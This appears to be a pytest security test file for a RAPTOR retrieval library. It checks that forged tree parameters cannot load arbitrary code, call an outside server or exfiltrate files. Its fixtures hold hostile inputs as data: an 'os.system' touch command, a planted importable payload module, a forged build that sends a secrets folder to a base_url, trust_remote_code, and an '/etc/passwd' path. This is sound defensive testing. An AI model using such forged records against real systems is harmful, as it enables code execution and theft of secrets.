"""Hostile trees (issue 11): a tree handed over by someone else is data, never code.

Each test builds a real tree with the fakes, then forges its ``params.embedder`` the way an
attacker would: edit ``tree.json`` and recompute the (unkeyed) checksum, here by letting the
landed ``Tree.save`` write the forged params, so the forgery is exactly as valid as a real
tree.  It then loads the tree through every path a user has (``raptor query`` in a real
subprocess, LangChain ``RaptorRetriever.from_tree``, LlamaIndex ``RaptorIndex.load`` and
``RaptorRetriever.from_persist_dir``) and checks that:

* the load fails with a typed error that says what to pass instead;
* no request reached a recording HTTP server on 127.0.0.1 (named as ``base_url`` in the
  forged records, and as the LLM of a forged ``raptor build``);
* no file was created or changed anywhere under the test's directory (the tree's folder,
  the working directory, the "secret" files a forged build would read);
* no attacker module was imported (a marker file it would write, and ``sys.modules``).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from openai_server import LOCALHOST

from raptor_core.build.builder import TreeBuilder
from raptor_core.exceptions import InvalidParameterError, TreeFormatError
from raptor_core.testing import EchoSummarizer, FakeEmbedder, WhitespaceTokenizer
from raptor_core.tree import Tree

pytestmark = LOCALHOST

ST = "raptor_core.backends.sentence_transformers.SentenceTransformerEmbedder"
DIM = 16
CANARY_KEY = "sk-canary-must-never-leave-this-machine"
PAYLOAD = "attacker_payload"


# -- a server that records every request ---------------------------------------------------------
class RecordingServer:
    """Any method, any path on 127.0.0.1: recorded, answered with an empty JSON object."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        records = self.requests

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                records.append((self.command, self.path, dict(self.headers)))
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = _record

            def log_message(self, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> RecordingServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def server() -> Iterator[RecordingServer]:
    with RecordingServer() as srv:
        yield srv


# -- the scene: a user's machine with secrets, and a tree folder received from someone --------------
def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """Every file and folder under ``root`` with its size and modification time."""
    out = {}
    for path in sorted(root.rglob("*")):
        stat = path.lstat()
        out[path.relative_to(root).as_posix()] = (stat.st_size, stat.st_mtime_ns)
    return out


@pytest.fixture(scope="module")
def built_tree() -> Tree:
    builder = TreeBuilder(
        FakeEmbedder(DIM), EchoSummarizer(), tokenizer=WhitespaceTokenizer(), random_state=0
    )
    return builder.build(
        [
            {"doc_id": "cats", "text": "Cats purr and sleep in the sun. " * 40},
            {"doc_id": "rockets", "text": "Rockets burn fuel to reach orbit. " * 40},
            {"doc_id": "bread", "text": "Bakers knead dough and bake bread. " * 40},
        ]
    )


class Scene:
    def __init__(self, root: Path, server: RecordingServer) -> None:
        self.root = root
        self.server = server
        self.secrets = root / "home" / "secrets"
        self.secrets.mkdir(parents=True)
        (self.secrets / "passwords.txt").write_text("the launch codes are 0000.\n")
        self.tree_dir = root / "downloads" / "shared-tree"
        self.exfil = root / "exfiltrated"
        self.marker = root / "PAYLOAD-RAN"

    def plant_payload(self, folder: Path) -> None:
        """An attacker module that writes a marker when imported (or called)."""
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{PAYLOAD}.py").write_text(
            "from pathlib import Path\n"
            f"Path({str(self.marker)!r}).write_text('imported')\n"
            "def run(*args, **kwargs):\n"
            f"    Path({str(self.marker)!r}).write_text('called')\n"
            "class Embedder:\n"
            "    def __init__(self, *args, **kwargs):\n"
            "        run()\n"
        )

    def forge(self, tree: Tree, record: Any) -> Path:
        params = {**tree.params, "embedder": record}
        forged = Tree(
            nodes=tree.nodes, embeddings=tree.embeddings, params=params, build_info=tree.build_info
        )
        forged.save(self.tree_dir)
        # The forgery is "valid": the unkeyed checksum was recomputed by the landed code.
        assert Tree.load(self.tree_dir).params["embedder"] == record
        return self.tree_dir


def hostile_records(scene: Scene) -> dict[str, Any]:
    url = scene.server.url + "/v1"
    evil_model = scene.root / "downloads" / "evil-model"
    evil_model.mkdir(parents=True)
    (evil_model / "modules.json").write_text(
        json.dumps([{"idx": 0, "name": "0", "path": "", "type": f"{PAYLOAD}.Embedder"}])
    )
    scene.plant_payload(evil_model)
    return {
        # 1. the CLI itself, running a build that reads local files and sends them out.
        "cli-main": {
            "class": "raptor_core.cli.main",
            "argv": [
                "build",
                str(scene.secrets),
                "--out",
                str(scene.exfil),
                "--llm",
                "openai",
                "--llm-base-url",
                url,
                "--quiet",
            ],
        },
        # 2. an internal dotted-import helper, pointed at code in the tree's own folder ...
        "load-dotted": {
            "class": "raptor_core.evaluation.runner._load_dotted",
            "path": f"{PAYLOAD}:run",
        },
        # ... or at any installed module's entry point.
        "installed-entry-point": {
            "class": "raptor_core.evaluation.runner._load_dotted",
            "path": "venv.__main__:main",
        },
        # 3. a remote embedder whose base_url is the attacker's server.
        "openai-base-url": {
            "class": "raptor_core.backends.openai.OpenAIEmbedder",
            "model": "text-embedding-3-small",
            "base_url": url,
            "api_key": CANARY_KEY,
        },
        # 4. a hub model that asks for its own code to run.
        "remote-code": {
            "class": ST,
            "model_name_or_path": "attacker/model",
            "trust_remote_code": True,
        },
        # 5. a local model directory whose modules.json names the attacker's class.
        "local-path": {"class": ST, "model_name_or_path": str(evil_model)},
        # 6. a hub-looking name that is a directory next to the tree (the working directory).
        "shadowed-name": {"class": ST, "model_name_or_path": "evil-model"},
        # 7. a framework wrapper and an arbitrary callable.
        "framework-wrapper": {
            "class": "raptor_langchain.models.LangChainEmbedder",
            "embeddings": "langchain_openai.OpenAIEmbeddings",
        },
        "builtin": {"class": "os.system", "command": f"touch {scene.marker}"},
    }


RECORD_NAMES = [
    "cli-main",
    "load-dotted",
    "installed-entry-point",
    "openai-base-url",
    "remote-code",
    "local-path",
    "shadowed-name",
    "framework-wrapper",
    "builtin",
]


@pytest.fixture
def scene(tmp_path: Path, server: RecordingServer, monkeypatch: pytest.MonkeyPatch) -> Scene:
    monkeypatch.setenv("OPENAI_API_KEY", CANARY_KEY)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    return Scene(tmp_path, server)


def prepare(scene: Scene, tree: Tree, name: str) -> Path:
    records = hostile_records(scene)
    directory = scene.forge(tree, records[name])
    scene.plant_payload(directory)  # attacker code in the tree's folder, importable from it
    # A model directory in the tree's folder, which is the working directory of the loads.
    shutil.copytree(scene.root / "downloads" / "evil-model", directory / "evil-model")
    return directory


def assert_nothing_happened(scene: Scene, before: dict[str, tuple[int, int]]) -> None:
    assert scene.server.requests == []
    assert not scene.marker.exists()
    assert PAYLOAD not in sys.modules
    assert not scene.exfil.exists()
    assert snapshot(scene.root) == before


# -- raptor query, a real process ----------------------------------------------------------------
@pytest.mark.parametrize("name", RECORD_NAMES)
def test_raptor_query_refuses(scene: Scene, built_tree: Tree, name: str) -> None:
    directory = prepare(scene, built_tree, name)
    before = snapshot(scene.root)
    env = {**os.environ, "OPENAI_API_KEY": CANARY_KEY, "HF_HUB_OFFLINE": "1"}
    # Run from the tree's folder with `python -m`, so the folder is importable: the worst case.
    proc = subprocess.run(
        [sys.executable, "-m", "raptor_core.cli", "query", str(directory), "cats purr"],
        cwd=directory,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 2, proc.stderr
    assert proc.stdout == ""
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("raptor query: error:"), proc.stderr
    assert "--embedder" in proc.stderr and "Traceback" not in proc.stderr
    assert CANARY_KEY not in proc.stderr
    assert_nothing_happened(scene, before)


# -- the lazy file store --------------------------------------------------------------------------
@pytest.mark.parametrize("name", RECORD_NAMES)
def test_lazy_file_store_treats_the_record_as_data(
    scene: Scene, built_tree: Tree, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from raptor_core.components import recreate_embedder
    from raptor_core.retrieval.collapsed import CollapsedTreeRetriever
    from raptor_core.store import FileNodeStore

    directory = prepare(scene, built_tree, name)
    monkeypatch.chdir(directory)
    monkeypatch.syspath_prepend(str(directory))
    before = snapshot(scene.root)
    store = FileNodeStore.open(directory)  # reads tree.idx and the head of tree.json
    assert "lazy" in repr(store)
    with pytest.raises(InvalidParameterError, match="embedder"):
        recreate_embedder(store.params.get("embedder"), dim=store.dim)
    assert_nothing_happened(scene, before)
    hits = CollapsedTreeRetriever(store, FakeEmbedder(DIM), k=2).retrieve("cats purr")
    assert len(hits) == 2 and "Cats" in hits[0].node.text
    assert_nothing_happened(scene, before)


# -- LangChain ------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", RECORD_NAMES)
def test_langchain_load_refuses(
    scene: Scene, built_tree: Tree, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("langchain_core")
    from raptor_langchain import RaptorRetriever

    directory = prepare(scene, built_tree, name)
    monkeypatch.chdir(directory)
    monkeypatch.syspath_prepend(str(directory))
    before = snapshot(scene.root)
    with pytest.raises(InvalidParameterError, match="embeddings="):
        RaptorRetriever.from_tree(directory)
    retriever = RaptorRetriever(tree=Tree.load(directory))
    with pytest.raises(InvalidParameterError, match="embeddings="):
        retriever.invoke("cats purr")
    assert_nothing_happened(scene, before)
    # The way out: pass the model the tree was built with.
    docs = RaptorRetriever.from_tree(directory, FakeEmbedder(DIM), k=2).invoke("cats purr")
    assert len(docs) == 2 and "Cats" in docs[0].page_content
    assert_nothing_happened(scene, before)


# -- LlamaIndex ----------------------------------------------------------------------------------
@pytest.mark.parametrize("name", RECORD_NAMES)
def test_llamaindex_load_refuses(
    scene: Scene, built_tree: Tree, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("llama_index.core")
    from llama_index.core import Settings

    from raptor_llamaindex import RaptorIndex, RaptorRetriever

    monkeypatch.setattr(Settings, "_embed_model", None)
    directory = prepare(scene, built_tree, name)
    monkeypatch.chdir(directory)
    monkeypatch.syspath_prepend(str(directory))
    before = snapshot(scene.root)
    with pytest.raises(InvalidParameterError, match="embed_model="):
        RaptorIndex.load(directory)
    with pytest.raises(InvalidParameterError, match="embed_model="):
        RaptorRetriever.from_persist_dir(directory)
    assert_nothing_happened(scene, before)
    index = RaptorIndex.load(directory, embed_model=FakeEmbedder(DIM))
    nodes = index.as_retriever(similarity_top_k=2).retrieve("cats purr")
    assert len(nodes) == 2 and "Cats" in nodes[0].node.get_content()
    assert_nothing_happened(scene, before)


# -- the LlamaIndex parameter file ------------------------------------------------------------------
def _params_file(directory: Path, **sections: Any) -> None:
    document = {"format": "raptor-llamaindex", "format_version": 1, **sections}
    (directory / "raptor_llamaindex.json").write_text(json.dumps(document))


def test_llamaindex_params_file_never_chooses_a_cache_or_a_component(
    scene: Scene, built_tree: Tree, monkeypatch: pytest.MonkeyPatch, caplog: Any
) -> None:
    pytest.importorskip("llama_index.core")
    from llama_index.core import Document

    from raptor_llamaindex import RaptorIndex

    built_tree.save(scene.tree_dir)
    elsewhere = scene.root / "cache-chosen-by-the-file"
    _params_file(
        scene.tree_dir,
        builder={"cache": str(elsewhere), "random_state": 0, "max_layers": 1},
        documents=[
            {"doc_id": "cats", "text": "Cats purr. " * 20, "metadata": {}},
            {"doc_id": "rockets", "text": "Rockets fly. " * 20, "metadata": {}},
        ],
    )
    monkeypatch.chdir(scene.root)
    index = RaptorIndex.load(scene.tree_dir, embed_model=FakeEmbedder(DIM))
    assert "cache" in caplog.text
    index.insert(Document(text="Bread rises in the oven. " * 20, id_="bread"))
    assert "bread" in index.tree.doc_ids
    assert not elsewhere.exists() and scene.server.requests == []
    # What persist writes back holds only plain builder numbers.
    index.persist(scene.root / "again")
    saved = json.loads((scene.root / "again" / "raptor_llamaindex.json").read_text())
    assert saved["builder"] == {"random_state": 0, "max_layers": 1}


@pytest.mark.parametrize(
    "sections",
    [
        {"retriever": {"llm": "raptor_core.cli.main"}},
        {"retriever": {"embed_model": {"class": "x"}}},
        {"retriever": {"callback_manager": "x"}},
        {"retriever": {"strategy": "raptor_core.cli.main"}},
        {"retriever": {"strategy_params": {"index": "raptor_core.cli:main"}}},
        {"retriever": {"strategy_params": {"no_such_param": 1}}},
        {"retriever": {"strategy_params": {"layers": [{"class": "x"}]}}},
        {"retriever": {"similarity_top_k": "5"}},
        {"retriever": {"similarity_top_k": 0}},
        {"retriever": {"max_tokens": 1.5}},
        {"retriever": {"excluded_llm_metadata_keys": "source"}},
        {"retriever": []},
        {"builder": {"tokenizer": "raptor_core.cli.main"}},
        {"builder": {"progress": "print"}},
        {"builder": {"max_concurrency": 10**6}},
        {"builder": {"random_state": -1}},
        {"builder": {"n_threads": "all"}},
        {"builder": {"chunk_max_tokens": True}},
        {"documents": [{"doc_id": "a", "text": "x", "path": "/etc/passwd"}]},
        {"documents": "all"},
        {"plugins": ["raptor_core.cli.main"]},
    ],
)
def test_llamaindex_params_file_schema_is_strict(
    tmp_path: Path, built_tree: Tree, sections: dict[str, Any]
) -> None:
    pytest.importorskip("llama_index.core")
    from raptor_llamaindex import RaptorIndex, RaptorRetriever

    built_tree.save(tmp_path)
    _params_file(tmp_path, **sections)
    with pytest.raises(TreeFormatError, match=r"raptor_llamaindex\.json"):
        RaptorIndex.load(tmp_path, embed_model=FakeEmbedder(DIM))
    with pytest.raises(TreeFormatError, match=r"raptor_llamaindex\.json"):
        RaptorRetriever.from_persist_dir(tmp_path, FakeEmbedder(DIM))


def test_llamaindex_params_file_valid_sections_round_trip(tmp_path: Path, built_tree: Tree) -> None:
    pytest.importorskip("llama_index.core")
    from raptor_llamaindex import RaptorRetriever

    retriever = RaptorRetriever(
        built_tree,
        FakeEmbedder(DIM),
        strategy="traversal",
        similarity_top_k=3,
        max_tokens=None,
        top_k=2,
        threshold=0.1,
        excluded_llm_metadata_keys=["source"],
    )
    retriever.persist(tmp_path)
    loaded = RaptorRetriever.from_persist_dir(tmp_path, FakeEmbedder(DIM))
    assert loaded.get_params() == retriever.get_params()
